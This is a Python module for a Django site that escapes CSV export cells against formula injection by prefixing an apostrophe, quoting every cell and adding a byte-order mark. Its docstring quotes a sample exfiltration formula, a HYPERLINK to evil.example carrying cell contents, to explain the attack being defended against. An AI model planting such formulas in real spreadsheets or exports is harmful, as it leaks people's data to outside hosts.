"""CSV that spreadsheets open as data: every export writes its cells through `safe_cell`.

A cell starting with = + - @ (or a tab or carriage return before one) is run as a formula by
Excel, LibreOffice and Google Sheets: a donor named `=HYPERLINK("https://evil.example?"&A1)`
would send the sheet's contents away (CSV injection). Such cells are prefixed with an
apostrophe, which spreadsheets show as text and do not display. Every cell is quoted too: Excel
in the locales whose list separator is ";" splits an unquoted `Dana;=HYPERLINK(…)` into a name
and a live formula, and keeps a quoted one whole.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from datetime import datetime
from typing import Any

from django.utils import timezone

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """csv.writer whose rows are written through safe_cell, every cell quoted."""

    def __init__(self, stream: Any, **options: Any) -> None:
        self.writer = csv.writer(stream, quoting=csv.QUOTE_ALL, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self.writer.writerow([safe_cell(value) for value in row])


def iso_time(moment: datetime | None) -> str:
    """ISO 8601 in the site's time zone, to the second: what spreadsheets read as a date."""
    return timezone.localtime(moment).isoformat(timespec="seconds") if moment else ""


class _Echo:
    def write(self, value: str) -> str:
        return value


# Excel opens a CSV file as the machine's legacy code page unless it starts with this: a donor
# called Zoë would read "ZoÃ«". LibreOffice and Python's "utf-8-sig" skip it.
BYTE_ORDER_MARK = "\ufeff"


def stream_rows(
    rows: Iterable[Iterable[object]], *, byte_order_mark: bool = False
) -> Iterator[str]:
    """Each row as one CSV line, for a StreamingHttpResponse (after a byte-order mark if asked:
    files people open in a spreadsheet)."""
    if byte_order_mark:
        yield BYTE_ORDER_MARK
    writer = SafeWriter(_Echo())
    for row in rows:
        yield writer.writerow(row)
